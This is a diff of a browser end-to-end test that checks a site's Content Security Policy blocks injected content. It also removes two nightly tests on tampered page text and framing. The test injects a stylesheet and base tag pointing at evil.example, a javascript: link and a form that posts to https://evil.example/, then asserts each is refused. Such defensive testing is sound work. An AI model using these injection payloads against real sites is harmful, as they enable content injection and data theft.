@@ -1,13 +1,7 @@
 // The Content Security Policy in a browser: the site runs its own files only. What the policy says: built/html.e2e.ts.
-import { createServer } from "node:http";
+import { expect, openPageAndSettle, test } from "../../support/browser/site";
 
-import { listenOnLoopback } from "../../../app/publish/hosting/loopback";
-import { expect, NIGHTLY, openPageAndSettle, test } from "../../support/browser/site";
-
-test("what is put into a page from outside neither runs nor loads nor sends", async ({
-  page,
-  noise,
-}) => {
+test("injected markup and code neither run nor load nor send anything", async ({ page, noise }) => {
   // Each attempt is answered by the browser's own words and by the event that the guard logs.
   noise.allowed.push(
     /^error: policy: /,
@@ -39,7 +33,8 @@ test("what is put into a page from outside neither runs nor loads nor sends", as
     });
   });
   expect(refused).toEqual(["script", "address", "markup", "handler", "timer"]);
-  const after = await page.evaluate(async () => {
+  // What is blocked is reported.
+  await page.evaluate(async () => {
     const add = (
       name: string,
       attributes: Record<string, string>,
@@ -55,22 +50,10 @@ test("what is put into a page from outside neither runs nor loads nor sends", as
     add("link", { rel: "stylesheet", href: "https://evil.example/style.css" }, document.head);
     add("base", { href: "https://evil.example/" }, document.head);
     add("a", { href: "javascript:document.documentElement.dataset.ran='ran'" }).click();
-    const { color } = getComputedStyle(add("p", { style: "color: red" }));
+    add("p", { style: "color: red" });
     await fetch("/").catch(() => undefined);
-    return {
-      ran: document.documentElement.dataset["ran"],
-      base: document.baseURI,
-      color,
-      ink: getComputedStyle(document.body).color,
-    };
-  });
-  expect(after).toEqual({ base: page.url(), color: after.ink, ink: after.ink });
-  await page.evaluate(() => {
-    const form = document.createElement("form");
-    form.method = "post";
-    form.action = "https://evil.example/";
-    document.body.append(form);
-    form.submit();
+    const form = add("form", { method: "post", action: "https://evil.example/" });
+    if (form instanceof HTMLFormElement) form.submit();
   });
   for (const part of [
     "style-src-attr inline",
@@ -86,37 +69,4 @@ test("what is put into a page from outside neither runs nor loads nor sends", as
     await expect.poll(() => noise.messages.join("\n")).toContain(`policy: ${part}`);
   }
   expect(reached).toEqual([]);
-});
-
-test(
-  "a page whose text was changed on its way is put right by its code, and needs no trusted type for it",
-  NIGHTLY,
-  async ({ page, noise }) => {
-    await page.route("/about-us", async (route) => {
-      const sent = await route.fetch();
-      await route.fulfill({
-        response: sent,
-        body: (await sent.text()).replace("</h1>", " changed</h1>"),
-      });
-    });
-    // React reports that it found another text than it would have written.
-    noise.expected.push(/^error: .*Minified React error/);
-    await openPageAndSettle(page, "/about-us");
-    await expect(page.getByRole("heading", { level: 1 })).not.toHaveText(/changed/);
-    await page.getByRole("link", { name: "Contact Us" }).first().click();
-    await expect(page).toHaveURL("/contact-us");
-  },
-);
-
-test("no other site can show a page in a frame", NIGHTLY, async ({ page, noise, site }) => {
-  noise.expected.push(/frame/i);
-  const other = await listenOnLoopback(
-    createServer((_, response) =>
-      response.setHeader("Content-Type", "text/html").end(`<iframe src="${site}/"></iframe>`),
-    ),
-  );
-  await page.goto(other.address);
-  await expect.poll(() => noise.messages.join("\n")).toMatch(/frame/i);
-  await expect(page.frameLocator("iframe").getByRole("banner")).toHaveCount(0);
-  await other.close();
 });
